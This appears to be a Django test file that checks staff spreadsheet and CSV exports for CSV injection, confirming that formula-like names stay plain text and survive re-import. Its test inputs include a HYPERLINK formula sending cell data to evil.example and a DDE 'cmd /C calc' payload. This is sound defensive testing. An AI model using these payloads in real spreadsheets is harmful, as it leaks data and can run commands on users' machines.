"""Exports never carry live formulas: text a user typed reaches the staff's spreadsheet as text (CSV injection)."""

import csv
import io

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from laurel.core import exports
from laurel.core.services import log_action
from laurel.honors.models import Nomination, Stage
from laurel.outreach.models import Talk
from laurel.people import spreadsheets
from laurel.people.models import Person
from tests.factories.events import AttendeeFactory, EventFactory
from tests.factories.honors import CampaignFactory, NominationFactory
from tests.factories.outreach import MembershipFactory, TalkFactory
from tests.factories.people import OrganizationFactory, PersonFactory

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://evil.example/?leak="&A2,"详情")'
# One text per character a spreadsheet program starts a formula at (or skips before looking).
FORMULAS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _xlsx_cells(response) -> list:
    workbook = load_workbook(io.BytesIO(_body(response)))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _text_cells(response, value: str) -> list[str]:
    """The type of every cell holding `value` exactly: `s` is text, `f` a formula."""
    return [cell.data_type for cell in _xlsx_cells(response) if cell.value == value]


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(_body(response).decode("utf-8-sig"))))


@given(st.text())
def test_csv_escape_is_undone_by_the_import(text):
    assert exports.unescape(exports.csv_text(text)) == text


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_text_starting_a_formula_is_marked_as_text(text):
    assert exports.csv_text(text) == "'" + text


@pytest.mark.parametrize("value", ["王芳", "a=b", "'quoted'", "", 42, -3.5, None])
def test_csv_text_leaves_other_values_alone(value):
    assert exports.csv_text(value) == value


def test_attendance_export_writes_a_registrant_named_like_a_formula_as_text(staff_client):
    event = EventFactory()
    for text in FORMULAS:
        AttendeeFactory(event=event, name=text, title_line=text)
    response = staff_client.get(reverse("events:attendance_export", kwargs={"code": event.code}))
    cells = [cell for cell in _xlsx_cells(response) if cell.value in FORMULAS]
    assert len(cells) == 2 * len(FORMULAS)
    assert {cell.data_type for cell in cells} == {"s"}


def test_attendance_export_drops_control_characters_instead_of_failing(staff_client):
    event = EventFactory()
    AttendeeFactory(event=event, name="王\x0b芳")
    response = staff_client.get(reverse("events:attendance_export", kwargs={"code": event.code}))
    assert response.status_code == 200
    assert "王芳" in [cell.value for cell in _xlsx_cells(response)]


def test_people_xlsx_export_writes_formula_like_text_as_text(staff_client):
    PersonFactory(name=LINK, position="-主任", bio="@所有人")
    response = staff_client.get(reverse("people:export", kwargs={"kind": "persons", "file_format": "xlsx"}))
    cells = {cell.value: cell.data_type for cell in _xlsx_cells(response)}
    assert (cells[LINK], cells["-主任"], cells["@所有人"]) == ("s", "s", "s")


def test_people_csv_export_marks_formula_like_text(staff_client):
    PersonFactory(name=LINK, position="-主任", bio="@所有人")
    response = staff_client.get(reverse("people:export", kwargs={"kind": "persons", "file_format": "csv"}))
    row = _csv_rows(response)[1]
    assert (row[1], row[6], row[11]) == ("'" + LINK, "'-主任", "'@所有人")


def test_units_csv_export_marks_formula_like_text(staff_client):
    OrganizationFactory(name="=1+1大学", region="+东湖区")
    response = staff_client.get(reverse("people:export", kwargs={"kind": "units", "file_format": "csv"}))
    assert _csv_rows(response)[1][:4:3] == ["'=1+1大学", "'+东湖区"]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_people_export_imported_back_changes_nothing(staff, staff_client, file_format):
    unit = OrganizationFactory(name="云州大学")
    for index, text in enumerate(["=1+1", "-减号", "+86", "@提及", "'=引号", "普通"]):
        PersonFactory(
            name=f"{text}{index}", organization=unit, position=text, title=text, field=text,
            bio=f"- 第一条\n- 第二条 {text}",
        )  # fmt: skip
    before = list(Person.objects.order_by("pk").values())
    response = staff_client.get(reverse("people:export", kwargs={"kind": "persons", "file_format": file_format}))

    preview = spreadsheets.preview_import("persons", _body(response))
    assert preview.errors == []
    assert spreadsheets.apply_import(preview, actor=staff) == {"created": 0, "updated": 6}
    assert list(Person.objects.order_by("pk").values()) == before


def test_audit_log_csv_marks_formula_like_text(staff, staff_client):
    log_action("people.person.updated", actor=staff, obj=PersonFactory(name=LINK))
    row = _csv_rows(staff_client.get(reverse("core:audit_export")))[1]
    assert row[6] == "'" + LINK


def test_campaign_exports_write_a_nominee_named_like_a_formula_as_text(staff, staff_client):
    nomination = NominationFactory(person=PersonFactory(name=LINK), status=Nomination.Status.ELIGIBLE, photos=0)
    log_action("honors.nomination.passed", actor=staff, obj=nomination)
    code = nomination.campaign.code

    workbook = staff_client.get(reverse("honors:export_xlsx", kwargs={"code": code}))
    assert set(_text_cells(workbook, LINK)) == {"s"}
    audit = _csv_rows(staff_client.get(reverse("honors:export_audit", kwargs={"code": code})))
    assert audit[1][6].startswith("'" + LINK)


def test_vetting_list_writes_a_candidate_named_like_a_formula_as_text(staff_client):
    campaign = CampaignFactory(stage=Stage.COMMITTEE)
    NominationFactory(campaign=campaign, person=PersonFactory(name=LINK), status=Nomination.Status.SELECTED, photos=0)
    response = staff_client.get(reverse("honors:vetting_list", kwargs={"code": campaign.code}))
    assert _text_cells(response, LINK) == ["s"]


def test_reach_export_writes_a_speaker_named_like_a_formula_as_text(staff_client):
    speaker = MembershipFactory(person=PersonFactory(name=LINK))
    TalkFactory(status=Talk.Status.DELIVERED, speaker=speaker, headcount=80)
    response = staff_client.get(reverse("outreach:reach_export"))
    assert _text_cells(response, LINK) == ["s"]
